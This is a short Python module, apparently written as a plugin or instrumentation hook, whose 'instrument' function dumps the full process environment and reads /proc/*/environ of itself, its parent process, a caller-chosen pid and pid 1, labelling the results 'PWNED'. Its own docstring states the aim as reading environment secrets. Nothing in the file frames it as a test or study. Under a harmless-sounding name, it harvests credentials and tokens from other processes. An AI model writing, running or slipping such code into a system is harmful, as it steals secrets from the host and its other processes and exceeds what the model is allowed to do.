"""Read environment secrets: our environ, and /proc/*/environ of the zygote, the caller, pid 1."""

import os


def instrument(text, params):
    report = ["environ " + repr(dict(os.environ))]
    for pid in ("self", str(os.getppid()), params.get("pid", "1"), "1"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                report.append(f"PWNED {pid}: " + f.read().decode(errors="replace"))
        except OSError as exc:
            report.append(f"{pid}: {exc}")
    return "\n".join(report)
